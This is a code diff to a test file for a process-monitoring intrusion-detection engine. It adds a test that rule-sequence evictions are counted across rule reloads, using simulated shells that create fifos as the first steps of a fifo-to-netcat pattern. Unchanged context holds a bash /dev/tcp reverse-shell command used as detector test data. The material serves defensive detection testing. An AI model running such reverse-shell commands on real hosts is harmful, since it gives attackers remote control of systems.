@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { AlertThrottle } from '../../src/alerts/index.js';
 import { Engine, type EngineEmitter } from '../../src/agent/engine.js';
-import { loadRuleSet } from '../../src/rules/index.js';
+import { loadRuleSet, RuleSet } from '../../src/rules/index.js';
 import type { ProcSnapshot, RawEvent } from '../../src/capture/raw-event.js';
 import { ProcessEventStream, type HostInfo } from '../../src/ecs/index.js';
 import { FixtureProcFs } from '../../src/process/index.js';
@@ -133,5 +133,29 @@ describe('Engine', () => {
     e.handleBatch([broken, ...reverseShellLaunch(501, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1')], out);
     expect(e.stats().failedEvents).toBe(1);
     expect(out.alerts.length).toBeGreaterThan(0);
+  });
+
+  it('counts partial sequences pushed out by the open-sequence cap, across rule reloads', async () => {
+    const clock = new SteppedClock();
+    const { rules } = await loadRuleSet();
+    const small = (): RuleSet => new RuleSet(rules.rules, { maxOpenSequences: 3 });
+    const stream = new ProcessEventStream({ procfs, host: HOST, clock });
+    stream.seed();
+    const e = new Engine({ stream, rules: small(), throttle: new AlertThrottle(clock, { windowMs: 60_000 }), clock, emitEvents: false });
+    const out = collector();
+    // A flood of fifos, each by its own shell: each opens a partial fifo -> netcat sequence.
+    const flood = (first: number): RawEvent[] =>
+      Array.from({ length: 10 }, (_, i) => [
+        forkEvent(100, first + 2 * i),
+        execEvent(first + 2 * i, snapshot(['sh', '-c', 'x'], '/usr/bin/dash', 100, first + 2 * i)),
+        forkEvent(first + 2 * i, first + 2 * i + 1),
+        execEvent(first + 2 * i + 1, snapshot(['mkfifo', `/tmp/f${i}`], '/usr/bin/mkfifo', first + 2 * i, first + 2 * i + 1)),
+      ]).flat();
+    e.handleBatch(flood(600), out);
+    const evicted = e.stats().sequenceEvictions;
+    expect(evicted).toBeGreaterThan(0);
+    e.setRules(small());
+    e.handleBatch(flood(700), out);
+    expect(e.stats().sequenceEvictions).toBeGreaterThan(evicted);
   });
 });
